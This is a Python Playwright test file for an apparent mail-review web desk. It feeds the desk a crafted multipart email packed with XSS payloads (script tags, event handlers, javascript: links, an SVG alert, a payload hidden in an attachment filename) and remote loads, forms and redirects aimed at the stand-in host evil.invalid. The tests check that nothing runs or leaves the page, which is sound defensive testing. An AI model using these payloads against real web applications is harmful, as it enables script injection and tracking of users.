"""Mail that attacks the desk: no script runs, no request leaves, nothing is sent by it."""

from dataclasses import replace

from playwright.async_api import Page

from gateway.words import Finding, Severity
from tests.browser.samples import CASES, held
from tests.browser.site import Site, now

SCRIPT = "<script>window.hit=1</script><img src=x onerror=window.hit=2>"
# ruff: noqa: E501 - what a stranger wrote keeps no line length
HTML = """\
<html><head><meta http-equiv="refresh" content="0;url=http://evil.invalid/refresh">
<base href="http://evil.invalid/"><link rel="stylesheet" href="http://evil.invalid/a.css">
<link rel="dns-prefetch" href="//evil.invalid"><link rel="preconnect" href="http://evil.invalid">
<style>@import "http://evil.invalid/b.css"; @font-face { font-family: f; src: url(http://evil.invalid/f); }
body { background: url(http://evil.invalid/c.png); font-family: f } input[value^=a] { background: url(//evil.invalid/d) }</style>
</head><body onload="parent.hit=3"><script>parent.hit=4; top.location='http://evil.invalid/top'</script>
<p style="background:url(http://evil.invalid/e.png)">Guten Tag</p><img src="http://evil.invalid/pixel.gif">
<img srcset="http://evil.invalid/2x.gif 2x"><svg><script>parent.hit=5</script><image href="http://evil.invalid/g.svg"/>
<foreignObject><iframe src="http://evil.invalid/h"></iframe></foreignObject><filter><feImage href="http://evil.invalid/i"/></filter>
<a xlink:href="javascript:parent.hit=6"><text>x</text></a></svg><iframe src="javascript:parent.hit=7"></iframe>
<object data="http://evil.invalid/j"></object><embed src="http://evil.invalid/k"><video src="http://evil.invalid/l" autoplay></video>
<form action="http://evil.invalid/m" method="post"><input name="q" value="abc" autofocus onfocus="parent.hit=8"><button>go</button></form>
<a href="javascript:parent.hit=9" id="js">click</a><a href="http://evil.invalid/n" target="_top" id="top">top</a>
<details open ontoggle="parent.hit=10"><summary>s</summary></details><template><script>parent.hit=11</script></template>
</body></html>
"""
BODY = (
    f"From: {SCRIPT} <anna@example.com>\r\nTo: kim@home.example\r\nSubject: {SCRIPT}\r\nMIME-Version: 1.0\r\n"
    "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: multipart/alternative; boundary=a\r\n\r\n"
    f"--a\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{SCRIPT}\r\n</pre></textarea>{SCRIPT}\r\n"
    f"--a\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{HTML}\r\n--a--\r\n"
    "--b\r\nContent-Type: text/html\r\nContent-Disposition: inline; "
    f"filename*=utf-8''%3Cimg%20src%3Dx%20onerror%3Dwindow.hit%3D12%3E.html\r\n\r\n{HTML}\r\n"
    "--b\r\nContent-Type: image/svg+xml\r\nContent-Disposition: attachment; filename=\"a.svg\"\r\n\r\n"
    "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(2)</script></svg>\r\n--b--\r\n"
).replace("\r\n", "\n").replace("\n", "\r\n").encode()  # fmt: skip


async def _hits(page: Page) -> object:
    return await page.evaluate("window.hit")


async def test_no_script_of_a_mail_runs_and_no_request_leaves(desk: Site) -> None:
    """On every page it appears on, and in the frame, also when its links are clicked."""
    finding = Finding("phone_number", Severity.BLOCK, SCRIPT, (0, len(SCRIPT)), SCRIPT)
    item = replace(
        held(CASES[2], 1, now()), thread=None, subject=SCRIPT, author=SCRIPT, note=SCRIPT, rule=SCRIPT,
        orders=(SCRIPT,), findings=(finding,),
    )  # fmt: skip
    await desk.held(item, BODY)
    page = await desk.page()
    said: list[str] = []
    page.on("dialog", lambda dialog: said.append(dialog.message))
    page.on("pageerror", lambda error: said.append(str(error)))
    for path in ("/", f"/held/{item.id}/source", "/history", "/overview", "/activity", f"/held/{item.id}"):
        await page.goto(f"{desk.url}{path}")
        await page.wait_for_load_state("networkidle")
        assert await _hits(page) is None, path
    await page.locator("details.frame summary").click()
    frame = page.frame_locator("details.frame iframe")
    await frame.get_by_text("Guten Tag").wait_for()
    await frame.get_by_text("top", exact=True).click()
    await page.wait_for_timeout(500)
    assert page.url == f"{desk.url}/held/{item.id}"
    assert (await _hits(page), said, desk.foreign) == (None, [], [])
    assert await page.locator("details.frame iframe").get_attribute("sandbox") == ""


async def test_the_html_opened_by_itself_is_as_closed_as_in_the_frame(desk: Site) -> None:
    item = replace(held(CASES[2], 1, now()), thread=None)
    await desk.held(item, BODY)
    page = await desk.page()
    await page.goto(f"{desk.url}/held/{item.id}/html")
    await page.wait_for_load_state("networkidle")
    assert page.url == f"{desk.url}/held/{item.id}/html"
    assert await page.locator("img, script, form, iframe, svg, style, link, object, video").count() == 0


async def test_attachments_are_saved_and_never_shown(desk: Site) -> None:
    item = replace(held(CASES[2], 1, now()), thread=None)
    await desk.held(item, BODY)
    page = await desk.page()
    await page.goto(f"{desk.url}/held/{item.id}")
    names = []
    for link in await page.locator(".files a").all():
        async with page.expect_download() as started:
            await link.click()
        names.append((await started.value).suggested_filename)
    assert len(names) == 2 and page.url == f"{desk.url}/held/{item.id}"
    assert (await _hits(page), "a.svg" in names) == (None, True)
